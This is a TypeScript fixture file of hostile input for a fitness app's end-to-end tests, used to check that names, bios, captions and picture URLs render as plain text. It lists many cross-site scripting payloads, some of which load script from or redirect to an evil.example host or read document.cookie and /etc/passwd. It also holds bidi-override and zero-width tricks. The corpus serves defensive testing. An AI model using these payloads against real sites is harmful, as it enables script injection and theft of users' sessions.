/**
 * Content that must render as plain text everywhere: markup, script tags, a 200-character
 * word, emoji and right-to-left text. The seed spreads it over names, bios, group names,
 * captions and comments so every screen meets it.
 */

/** One unbroken 200-character word (wrapping and truncation must cope). */
export const longWord = 'Wolfeschlegelsteinhausenbergerdorff'.repeat(6).slice(0, 200);

export const hostile = {
  scriptTag: '<script>alert("pwned")</script>',
  imgTag: '<img src=x onerror="alert(1)">',
  boldTag: '<b>bold</b>',
  longWord,
  emoji: '💪🏋️‍♀️🔥',
  arabic: 'مريم الحسيني',
  hebrew: 'נועה כהן',
} as const;

/**
 * Picture addresses a page must never load (script, inline data, local objects, another host by
 * the back door); the UI shows its placeholder instead. The seed gives one to a member's photo.
 */
export const hostileUrls = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(document.domain)',
  'java\tscript:alert(1)',
  'data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20onload%3D%22alert(1)%22%2F%3E',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/4f1c',
  'file:///etc/passwd',
  '//evil.example/pixel.png',
  '/\\evil.example/pixel.png',
] as const;

export const hostileMemberSeeds = [
  {
    name: 'Brenda <b>Bold</b> Okoye',
    bio: `${hostile.scriptTag} I lift heavy things and put them down.`,
  },
  { name: `Hubert ${longWord}`, bio: longWord },
  { name: hostile.arabic, bio: 'أحب الجري في الصباح الباكر 🏃‍♀️ ثم القهوة.' },
  { name: '💪 Tomás Ruiz 🏋️‍♂️', bio: 'Squats 🦵, oats 🥣, repeat 🔁. 🔥🔥🔥' },
  { name: hostile.hebrew, bio: `${hostile.imgTag} שלום! מתאמנת כל בוקר.` },
] as const;

export const hostileCaptions = [
  `${hostile.scriptTag} post-leg-day pizza 🍕`,
  longWord,
  'ארוחת בוקר של אלופים 🥑',
  '🔥🔥🔥',
  `Check my <a href="https://evil.example">form</a> ${hostile.imgTag}`,
] as const;

export const hostileComments = [
  `${hostile.scriptTag}`,
  `Nice! ${longWord}`,
  'ما شاء الله، استمري! 💪',
  '<i>so</i> jealous 😅',
] as const;

/** What a hostile string tries, one name per kind of attack or layout trap. */
export const hostileCategories = [
  'script-tag',
  'img-tag',
  'event-handler',
  'javascript-url',
  'data-url',
  'svg',
  'html-entity',
  'markup',
  'bidi-override',
  'rtl-text',
  'zero-width',
  'long-word',
  'combining-marks',
  'emoji',
] as const;
export type HostileCategory = (typeof hostileCategories)[number];

export type HostileString = { category: HostileCategory; text: string };

/** Exactly `length` characters of `unit` repeated: one word with no break opportunity. */
const word = (unit: string, length = 500): string =>
  unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

/**
 * Text a member can type anywhere, each entry a different attack or layout trap, and every
 * entry must render as the same plain text it is (never as markup, never as an address, never
 * wider than a phone). No entry starts or ends with whitespace, so a field that trims keeps it
 * whole. The hostile scenario (`seedHostile`) writes them into every field that holds user
 * content; the end-to-end hostile-input test opens every screen that shows them.
 */
export const hostileCorpus: readonly HostileString[] = [
  // script elements, plain and disguised
  { category: 'script-tag', text: hostile.scriptTag },
  { category: 'script-tag', text: '<script src="https://evil.example/x.js"></script>' },
  {
    category: 'script-tag',
    text: '</textarea></title></style></script><script>alert(document.cookie)</script>',
  },
  { category: 'script-tag', text: '<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>' },
  { category: 'script-tag', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { category: 'script-tag', text: '"><script>alert(1)</script><"' },
  { category: 'script-tag', text: `<script type="module">import('//evil.example/x.js')</script>` },
  // pictures that run script when they fail
  { category: 'img-tag', text: hostile.imgTag },
  { category: 'img-tag', text: '<img src="javascript:alert(1)">' },
  { category: 'img-tag', text: `<IMG SRC=# onmouseover="alert('img')">` },
  { category: 'img-tag', text: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { category: 'img-tag', text: '<img srcset="x 1x" onerror="alert(1)">' },
  {
    category: 'img-tag',
    text: '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  },
  // event-handler attributes, in a tag or breaking out of an attribute
  { category: 'event-handler', text: '" onmouseover="alert(1)" x="' },
  { category: 'event-handler', text: `' onfocus='alert(1)' autofocus='` },
  { category: 'event-handler', text: '<body onload=alert(1)>' },
  {
    category: 'event-handler',
    text: '<div onpointerenter="alert(1)" style="position:fixed;inset:0">cover</div>',
  },
  { category: 'event-handler', text: '<input autofocus onfocus=alert(1)>' },
  { category: 'event-handler', text: '<details open ontoggle=alert(1)>' },
  { category: 'event-handler', text: '<video><source onerror="alert(1)"></video>' },
  { category: 'event-handler', text: '<marquee onstart=alert(1)>loop</marquee>' },
  // script addresses (javascript: and its older cousin vbscript:), bare and in links and forms
  { category: 'javascript-url', text: 'javascript:alert(1)' },
  { category: 'javascript-url', text: 'JaVaScRiPt:alert(document.domain)' },
  { category: 'javascript-url', text: 'java\tscript:alert(1)' },
  { category: 'javascript-url', text: 'javascript&colon;alert(1)' },
  {
    category: 'javascript-url',
    text: `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  },
  { category: 'javascript-url', text: '<a href="javascript:alert(1)">claim your prize</a>' },
  {
    category: 'javascript-url',
    text: '<form action="javascript:alert(1)"><button>Go</button></form>',
  },
  { category: 'javascript-url', text: '<button formaction="javascript:alert(1)">Submit</button>' },
  { category: 'javascript-url', text: 'vbscript:msgbox("pwned")' },
  // inline data addresses
  { category: 'data-url', text: 'data:text/html,<script>alert(1)</script>' },
  {
    category: 'data-url',
    text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  },
  {
    category: 'data-url',
    text: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  },
  { category: 'data-url', text: '<a href="data:text/html,<script>alert(1)</script>">open</a>' },
  { category: 'data-url', text: '<object data="data:text/html,<script>alert(1)</script>">' },
  { category: 'data-url', text: '<iframe src="data:text/html,<script>alert(1)</script>">' },
  // SVG and MathML payloads
  { category: 'svg', text: '<svg onload=alert(1)>' },
  { category: 'svg', text: '<svg><script>alert(1)</script></svg>' },
  { category: 'svg', text: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    category: 'svg',
    text: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">tap</text></a></svg>',
  },
  {
    category: 'svg',
    text: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  },
  { category: 'svg', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  {
    category: 'svg',
    text: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  },
  // HTML entities: shown as typed, never decoded
  { category: 'html-entity', text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { category: 'html-entity', text: '&amp;lt;b&amp;gt;double-escaped&amp;lt;/b&amp;gt;' },
  { category: 'html-entity', text: '&#60;img src=x onerror=alert(1)&#62;' },
  { category: 'html-entity', text: '&#x3C;svg onload=alert(1)&#x3E;' },
  { category: 'html-entity', text: 'Tom &amp; Jerry &copy; 2026 &nbsp;&mdash; &unknown;' },
  {
    category: 'html-entity',
    text: '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  },
  // other markup and template injection
  { category: 'markup', text: hostile.boldTag },
  { category: 'markup', text: '<i>italic</i> <u>under</u> <h1>HUGE</h1>' },
  { category: 'markup', text: '<style>body{display:none}</style>' },
  { category: 'markup', text: '<iframe src="https://evil.example"></iframe>' },
  { category: 'markup', text: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { category: 'markup', text: '<base href="https://evil.example/">' },
  { category: 'markup', text: `{{constructor.constructor('alert(1)')()}}` },
  { category: 'markup', text: '${alert(1)}' },
  { category: 'markup', text: `'; alert(1); //` },
  { category: 'markup', text: '<!--<img src=x onerror=alert(1)>-->' },
  {
    category: 'markup',
    text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { category: 'markup', text: '<template><img src=x onerror=alert(1)></template>' },
  // right-to-left overrides and embeddings, closed and left open
  { category: 'bidi-override', text: '\u202Eevil.exe\u202C' },
  { category: 'bidi-override', text: 'invoice\u202Efdp.exe' },
  { category: 'bidi-override', text: '\u202Bقوة\u202C Strength' },
  { category: 'bidi-override', text: '\u2067سامي\u2069 lifted 100 kg' },
  { category: 'bidi-override', text: 'Kai Lindqvist\u202E (admin)' },
  { category: 'bidi-override', text: '\u202Dforced\u202C \u200Fmark\u200E' },
  // right-to-left scripts
  { category: 'rtl-text', text: hostile.arabic },
  { category: 'rtl-text', text: hostile.hebrew },
  { category: 'rtl-text', text: 'تمرين الساقين اليوم 💪 100 kg' },
  // zero-width joiners, non-joiners, spaces and the byte order mark
  { category: 'zero-width', text: 'Z\u200Be\u200Br\u200Bo\u200B-width' },
  { category: 'zero-width', text: '👨\u200D👩\u200D👧\u200D👦 family' },
  { category: 'zero-width', text: 'Ana\u200D Moreno' },
  { category: 'zero-width', text: 'byte\uFEFForder\uFEFFmark' },
  { category: 'zero-width', text: 'no\u200Cjoin\u200Dhere\u2060word\u2060joiner' },
  { category: 'zero-width', text: 'Invisible:\u200B\u200C\u200D\u2060' },
  // 500-character words: nowhere to break
  { category: 'long-word', text: word('W') },
  { category: 'long-word', text: word('Wolfeschlegelsteinhausenbergerdorff') },
  { category: 'long-word', text: `https://reprally.example/?q=${word('x', 472)}` },
  { category: 'long-word', text: word('1234567890') },
  { category: 'long-word', text: word('استقلالية') },
  { category: 'long-word', text: word('_') },
  // combining marks stacked high
  { category: 'combining-marks', text: 'Z̷̢͓̈a̶͇̿l̵̰̓g̸̱̈o̴̹̓ ̸̧̛t̷̰̾e̴͈͝x̵̱̾t̸̳̀' },
  { category: 'combining-marks', text: `e${'\u0301'.repeat(60)} stacked` },
  // emoji sequences: modifiers, joiners, flags, keycaps and a long run
  { category: 'emoji', text: hostile.emoji },
  { category: 'emoji', text: '👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈🏴‍☠️' },
  { category: 'emoji', text: '🇸🇪🇯🇵🇧🇷🇳🇬🇺🇦' },
  { category: 'emoji', text: '👍🏻👍🏼👍🏽👍🏾👍🏿' },
  { category: 'emoji', text: '1️⃣2️⃣3️⃣#️⃣*️⃣' },
  { category: 'emoji', text: '🧔🏻‍♂️🧑🏿‍🦽‍➡️🫶🏽' },
  { category: 'emoji', text: '💪'.repeat(100) },
];

/** The corpus's texts alone, in order. */
export const hostileStrings: readonly string[] = hostileCorpus.map((entry) => entry.text);

/**
 * Picture addresses for every URL field of the hostile scenario: the ones above, and more
 * schemes, encodings and payloads. None may reach a `src`; every one shows the placeholder
 * (a same-origin path that answers 404 shows it too, after failing to load).
 */
export const hostilePictureUrls = [
  ...hostileUrls,
  'JAVASCRIPT:alert(1)',
  'javascript:alert(1)//.png',
  '\u0000javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
  'DATA:text/html,<script>alert(1)</script>',
  'jar:https://evil.example/x.jar!/',
  'badge-gold.png" onerror="alert(1)',
  '/api/v1/media/evil.svg#<script>alert(1)</script>',
  'https://user:secret@evil.example/pixel.png',
] as const;
